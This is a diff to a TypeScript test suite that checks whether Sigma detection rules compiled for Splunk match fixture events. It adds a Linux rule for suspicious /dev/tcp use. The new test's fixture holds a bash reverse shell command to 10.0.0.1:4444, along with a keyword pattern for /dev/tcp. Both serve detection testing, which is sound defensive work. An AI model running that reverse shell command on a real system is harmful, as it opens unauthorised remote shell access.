@@ -29,12 +29,14 @@ const DEP2 = '44444444-4444-4444-8444-444444444444';
  * - windows/process_creation/proc_creation_win_powershell_run_script_from_input_stream.yml — Moriarty Meng (idea), Anton Kutepov (rule), oscd.community
  * - windows/process_creation/proc_creation_win_susp_copy_system_dir.yml — Florian Roth (Nextron Systems), Markus Neis, Tim Shelton (HAWK.IO), Nasreddine Bencherchali (Nextron Systems)
  * - windows/process_creation/proc_creation_win_cmd_unusual_parent.yml — Tim Rauch, Elastic (idea)
+ * - linux/builtin/lnx_susp_dev_tcp.yml — frack113
  */
 const corpusRule = (name: string) => parseRule(readFileSync(join(CORPUS_DIR, 'rules/windows/process_creation', name), 'utf8'));
 const CHCP = corpusRule('proc_creation_win_chcp_codepage_switch.yml');
 const PS_STDIN = corpusRule('proc_creation_win_powershell_run_script_from_input_stream.yml');
 const COPY_SYSDIR = corpusRule('proc_creation_win_susp_copy_system_dir.yml');
 const CMD_PARENT = corpusRule('proc_creation_win_cmd_unusual_parent.yml');
+const DEV_TCP = parseRule(readFileSync(join(CORPUS_DIR, 'rules/linux/builtin/lnx_susp_dev_tcp.yml'), 'utf8'));
 
 let fake: FakeSplunk;
 let clock: number;
@@ -158,6 +160,16 @@ describe('fixtures', () => {
       },
     ]);
     expect(out.map((o) => o.passed)).toEqual([true, true, true]);
+  });
+  it('matches Sigma keywords against the whole fixture event (its _raw)', async () => {
+    const a = adapterFor();
+    const rule = compiled(DEV_TCP);
+    expect(rule.query.startsWith('"*cat </dev/tcp/*" OR')).toBe(true);
+    const out = await a.runFixtures(rule, [
+      { name: 'reverse shell', event: { message: 'user ran: bash -i >& /dev/tcp/10.0.0.1/4444 0>&1' }, expect: 'match' },
+      { name: 'benign', event: { message: 'cat /etc/hosts' }, expect: 'no_match' },
+    ]);
+    expect(out.map((o) => o.passed)).toEqual([true, true]);
   });
 });
 
